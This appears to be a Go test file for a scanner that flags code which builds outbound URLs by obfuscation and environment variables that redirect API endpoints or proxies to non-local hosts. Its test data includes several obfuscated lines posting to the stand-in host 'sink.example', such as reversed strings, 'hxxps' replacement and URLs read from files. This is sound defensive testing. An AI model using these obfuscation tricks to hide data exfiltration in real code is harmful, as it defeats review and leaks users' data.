package effect

import "testing"

func TestURLBuilt(t *testing.T) {
	for code, want := range map[string]bool{
		`requests.post('https:/' + '/sink.example/t')`:                                        true,
		`requests.post('https:' + '//sink.example/t')`:                                        true,
		`requests.post('%s://%s/t' % ('https', 'sink.example'))`:                              true,
		`requests.post('hxxps://sink.example/t'.replace('xx', 'tt'))`:                         true,
		`requests.post('t/elpmaxe.knis//:sptth'[::-1])`:                                       true,
		`requests.post(urlunparse(('https', 'sink.example', '/', '', '', '')))`:               true,
		`requests.post(open('/tmp/u.txt').read().strip())`:                                    true,
		`fetch(require('fs').readFileSync('/tmp/u','utf8'))`:                                  true,
		`requests.get(u, proxies={'https': 'sink.example:8080'})`:                             true,
		`requests.get('https://api.github.com/user', headers=h)`:                              false,
		`urllib.request.urlopen('https://api.github.com/user').read()`:                        false,
		`psycopg.connect('postgres://localhost/db'); requests.get('https://api.github.com/')`: false,
	} {
		if got := urlBuilt(code); got != want {
			t.Errorf("urlBuilt(%q) = %v, want %v", code, got, want)
		}
	}
}

func TestNextURLAnyCase(t *testing.T) {
	code := `a('HTTPS://sink.example/t'); b('Http://x.example')`
	if k := NextURL(code, 0); k != 3 {
		t.Errorf("NextURL = %d, want 3", k)
	}
	urls, ok := codeURLs(`requests.get('https://api.github.com/user'); requests.post('HTTPS://sink.example/t')`)
	if !ok || len(urls) != 2 || urls[1] != "https://sink.example" {
		t.Errorf("codeURLs = %q, %v", urls, ok)
	}
}

func TestEndpointVar(t *testing.T) {
	for _, c := range []struct {
		name, val string
		want      bool
	}{
		{"OPENAI_BASE_URL", "https://proxy.example/v1", true},
		{"AWS_ENDPOINT_URL", "https://s3.example", true},
		{"HTTPS_PROXY", "http://sink.example:8080", true},
		{"OPENAI_BASE_URL", "http://localhost:11434/v1", false},
		{"AWS_ENDPOINT_URL", "http://127.0.0.1:4566", false},
		{"NO_PROXY", "example.com", false},
		{"GITHUB_TOKEN", "https://x.example", false},
	} {
		if got := endpointVar(c.name, c.val); got != c.want {
			t.Errorf("endpointVar(%s=%s) = %v, want %v", c.name, c.val, got, c.want)
		}
	}
}
